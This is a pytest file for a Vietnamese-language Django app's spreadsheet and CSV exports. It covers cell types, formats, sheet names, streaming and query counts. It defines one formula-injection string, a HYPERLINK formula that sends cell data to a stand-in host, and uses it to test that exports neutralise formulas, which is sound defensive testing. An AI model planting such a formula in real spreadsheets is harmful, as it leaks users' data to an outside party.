"""Exports fit Excel: exported, then read back with openpyxl as Excel would read them."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from stims.core.exports import (
    CSV_BOM,
    DATE_FORMAT,
    DECIMAL_FORMAT,
    INTEGER_FORMAT,
    MAX_WIDTH,
    sheet_title,
    write_csv,
    write_workbook,
)
from stims.orgs.models import Organization, OrganizationKind
from stims.testing import make_user, unit

INJECTED = '=HYPERLINK("http://example.invalid/?"&A2,"Click")'


def read(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_a_workbook_has_typed_cells_formats_a_named_sheet_capped_widths_and_a_bold_total():
    long_text = "Nghiên cứu ứng dụng tiến bộ kỹ thuật " * 10  # 370 characters
    rows = [
        [datetime.date(2026, 3, 2), 1_500_000_000, Decimal("12.50"), 2026, True, long_text, INJECTED],
        [datetime.date(2025, 12, 31), 250_000, Decimal("7"), 2025, False, "Ngắn", "Công ty Đạp Thanh"],
        ["Tổng cộng", 1_500_250_000, Decimal("19.50"), None, None, "", ""],
    ]
    headers = ["Ngày quyết định", "Kinh phí (đồng)", "Điểm", "Năm", "Sản phẩm chủ lực", "Tên", "Ghi chú"]
    sheet = read(write_workbook(headers, rows, title="nhiệm vụ KH&CN: 2026/2027", totals=1))

    assert sheet.title == "Nhiệm vụ KH&CN  2026 2027"  # capitalised, no ":" or "/" (Excel refuses them)
    assert [c.value for c in sheet[1]] == headers and all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    date, money, score, year, yes, name, note = sheet[2]
    assert date.is_date and date.value.date() == datetime.date(2026, 3, 2)
    assert date.number_format == DATE_FORMAT
    assert money.data_type == "n" and money.value == 1_500_000_000 and money.number_format == INTEGER_FORMAT
    assert score.value == 12.5 and score.number_format == DECIMAL_FORMAT
    assert sheet["C3"].number_format == INTEGER_FORMAT  # 7 is shown without decimals
    assert year.value == 2026 and year.number_format == "0"  # a year is never "2.026"
    assert yes.value == "Có" and sheet["E3"].value == "Không"
    assert name.alignment.wrap_text and note.value == INJECTED and note.data_type == "s" and note.quotePrefix
    total = sheet[4]
    assert total[0].value == "Tổng cộng" and all(c.font.b for c in total)
    assert not any(c.font.b for c in sheet[3])
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
    assert all(width <= MAX_WIDTH for width in widths.values())
    assert widths["F"] == MAX_WIDTH and widths["A"] >= 10 and widths["B"] >= len("1,500,250,000")


def test_sheet_names_are_valid_and_never_empty():
    assert sheet_title("cơ quan, tổ chức") == "Cơ quan, tổ chức"
    assert sheet_title("") == "STIMS"
    assert len(sheet_title("Tổng hợp " * 10)) <= 31
    assert not set(sheet_title("a[b]c*d?e/f\\g:h")) & set("[]*?/\\:")


def test_csv_starts_with_a_byte_order_mark_and_writes_dates_yes_no_and_neutralised_formulas():
    text = write_csv(["Tên", "Ngày", "Còn hoạt động"], [[INJECTED, datetime.date(2026, 1, 5), True]])
    assert text.startswith(CSV_BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(CSV_BOM))))
    assert rows == [["Tên", "Ngày", "Còn hoạt động"], ["'" + INJECTED, "05/01/2026", "Có"]]


@pytest.mark.django_db
def test_a_list_exports_in_vietnamese_with_yes_no_a_named_sheet_and_a_bom(client):
    ba_che = unit("Huyện Ba Chẽ", legacy=True)
    Organization.objects.create(name=INJECTED, kind=OrganizationKind.ENTERPRISE, admin_unit=ba_che)
    Organization.objects.create(
        name="HTX Chè Ba Chẽ", kind=OrganizationKind.COOPERATIVE, admin_unit=ba_che, is_active=False
    )
    client.force_login(make_user("local_officer", admin_unit=ba_che))
    url = reverse("orgs:organization_list")

    sheet = read(client.get(url, {"_export": "xlsx"}).content)
    assert sheet.title == "Cơ quan, tổ chức"
    headers = [c.value for c in sheet[1]]
    active = headers.index("Đang hoạt động")
    values = {row[0]: row[active] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values == {INJECTED: "Có", "HTX Chè Ba Chẽ": "Không"}
    cell = next(c for c in sheet["A"] if c.value == INJECTED)
    assert cell.data_type == "s" and cell.quotePrefix

    exported = client.get(url, {"_export": "csv"})
    assert exported.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][0] == "Tên" and {row[0] for row in rows[1:]} == {"'" + INJECTED, "HTX Chè Ba Chẽ"}
    assert {row[active] for row in rows[1:]} == {"Có", "Không"}


@pytest.mark.django_db
def test_dates_in_a_list_export_are_real_dates(client):
    from stims.councils.models import Council, CouncilKind

    Council.objects.create(
        name="Hội đồng nghiệm thu đề tài chè",
        kind=CouncilKind.ACCEPTANCE,
        meeting_date=datetime.date(2026, 4, 9),
    )
    client.force_login(make_user("leader"))
    sheet = read(client.get(reverse("councils:council_list"), {"_export": "xlsx"}).content)
    headers = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Ngày họp") + 1)
    assert (
        cell.is_date and cell.value.date() == datetime.date(2026, 4, 9) and cell.number_format == DATE_FORMAT
    )


@pytest.mark.django_db
def test_a_large_list_export_is_streamed_and_its_queries_do_not_grow_with_its_rows(client, monkeypatch):
    """Past STREAM_AFTER rows a list export streams (issue #20: 100,000 rows start at once, in bounded
    memory): read from the database in chunks, written as they come, in the same number of queries
    whatever the number of rows; the streamed workbook reads back as the whole one does."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from stims.core import exports

    monkeypatch.setattr(exports, "STREAM_AFTER", 5)
    monkeypatch.setattr(exports, "CHUNK_ROWS", 4)
    ba_che = unit("Huyện Ba Chẽ", legacy=True)
    client.force_login(make_user("local_officer", admin_unit=ba_che))
    url = reverse("orgs:organization_list")

    def add(start, count):
        Organization.objects.bulk_create(
            Organization(name=f"HTX số {i:03d}", kind=OrganizationKind.COOPERATIVE, admin_unit=ba_che)
            for i in range(start, start + count)
        )

    def export(export_format):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url, {"_export": export_format})
            body = b"".join(response.streaming_content) if response.streaming else response.content
        return response, body, len(queries)

    add(0, 3)
    Organization.objects.create(name=INJECTED, kind=OrganizationKind.ENTERPRISE, admin_unit=ba_che)
    small, _body, _queries = export("csv")
    assert not small.streaming  # a short list is answered whole

    add(3, 10)
    response, body, fourteen = export("csv")
    assert response.streaming and response["Content-Disposition"].endswith('.csv"')
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert body.startswith(b"\xef\xbb\xbf") and rows[0][0] == "Tên" and len(rows) == 15
    assert "'" + INJECTED in {row[0] for row in rows}
    add(13, 30)
    _response, body, forty_four = export("csv")
    assert body.decode("utf-8-sig").count("HTX số") == 43 and forty_four == fourteen

    response, body, queries = export("xlsx")
    assert response.streaming and queries == fourteen + 1  # + the first rows, read apart for the widths
    sheet = read(body)
    assert sheet.title == "Cơ quan, tổ chức" and sheet.freeze_panes == "A2"
    assert all(c.font.b for c in sheet[1]) and not any(c.font.b for c in sheet[2])
    assert sheet.max_row == 45
    headers = [c.value for c in sheet[1]]
    active = headers.index("Đang hoạt động")
    assert {row[active] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"Có"}
    cell = next(c for c in sheet["A"] if c.value == INJECTED)
    assert cell.data_type == "s" and cell.quotePrefix
    assert all(sheet.column_dimensions[c].width <= MAX_WIDTH for c in "ABC")


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_streamed_export_sends_its_first_bytes_before_reading_the_rows_and_never_counts_them(
    client, monkeypatch, export_format
):
    """The first bytes of a large export (CSV: its header line; XLSX: the archive's first parts) go out
    before the list's rows are read, and the next pieces as the rows come, a few at a time: nothing
    waits for a count of the list or for all its rows (issue #20: 100,000 rows start within a second)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from stims.core import exports

    monkeypatch.setattr(exports, "STREAM_AFTER", 5)
    monkeypatch.setattr(exports, "CHUNK_ROWS", 4)
    monkeypatch.setattr(exports, "FIRST_CHUNK_ROWS", 2)
    read_rows = []

    class CountedRow(exports.BoundRow):
        def __init__(self, record, table):
            read_rows.append(record.pk)
            super().__init__(record, table=table)

    monkeypatch.setattr(exports, "BoundRow", CountedRow)
    ba_che = unit("Huyện Ba Chẽ", legacy=True)
    client.force_login(make_user("local_officer", admin_unit=ba_che))
    Organization.objects.bulk_create(
        Organization(name=f"HTX dòng {i:03d}", kind=OrganizationKind.COOPERATIVE, admin_unit=ba_che)
        for i in range(30)
    )
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("orgs:organization_list"), {"_export": export_format})
        assert response.streaming
        assert read_rows == []  # answered before any row is read
        pieces = iter(response.streaming_content)
        first = next(pieces)
        assert first and read_rows == []  # the first bytes, still before any row of the list
        if export_format == "xlsx":
            first += next(pieces)  # the header row, once the first rows (read apart) set the widths
            read_rows.clear()
        first += next(pieces)
        assert 0 < len(read_rows) <= 4  # the first rows, a few of them
        rest = b"".join(pieces)
        response.close()
    assert len(read_rows) >= 30
    assert not any("COUNT(" in query["sql"].upper() for query in queries.captured_queries)
    if export_format == "csv":
        assert (first + rest).decode("utf-8-sig").count("HTX dòng") == 30


def test_a_streamed_workbook_keeps_the_types_and_formats_of_a_whole_one(monkeypatch):
    from stims.core import exports

    monkeypatch.setattr(exports, "STREAM_AFTER", 2)
    headers = ["Tên", "Kinh phí", "Điểm", "Năm", "Ngày họp", "Ghi chú"]
    rows = [
        ["Đề tài A", 1_500_000_000, Decimal("12.5"), 2026, datetime.date(2026, 4, 9), INJECTED],
        ["Đề tài B " + "x" * 80, 7, 3.25, 2025, datetime.date(2025, 1, 2), "a < b & c"],
        ["Đề tài C", None, None, 2024, None, ""],
    ]
    sheet = read(b"".join(exports.stream_workbook(headers, iter(rows), title="Nhiệm vụ KH&CN")))
    assert sheet.title == "Nhiệm vụ KH&CN" and [c.value for c in sheet[1]] == headers
    money, score, year, date = sheet["B2"], sheet["C2"], sheet["D2"], sheet["E2"]
    assert money.value == 1_500_000_000 and money.number_format == INTEGER_FORMAT
    assert score.value == 12.5 and score.number_format == DECIMAL_FORMAT
    assert year.value == 2026 and year.number_format == "0"
    assert (
        date.is_date and date.value.date() == datetime.date(2026, 4, 9) and date.number_format == DATE_FORMAT
    )
    assert sheet["F2"].value == INJECTED and sheet["F2"].data_type == "s" and sheet["F2"].quotePrefix
    assert sheet["F3"].value == "a < b & c" and sheet["A3"].alignment.wrap_text
    assert sheet["B4"].value is None and sheet["A4"].value == "Đề tài C"
